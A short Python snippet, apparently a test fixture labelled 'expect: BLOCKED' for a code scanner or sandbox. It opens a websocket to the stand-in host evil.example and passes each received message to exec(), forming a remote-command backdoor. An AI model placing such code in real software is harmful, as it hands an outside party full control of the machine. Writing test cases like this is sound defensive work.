# expect: BLOCKED
import asyncio, websockets
async def main():
    async with websockets.connect("ws://evil.example") as ws:
        async for m in ws:
            exec(m)
asyncio.run(main())
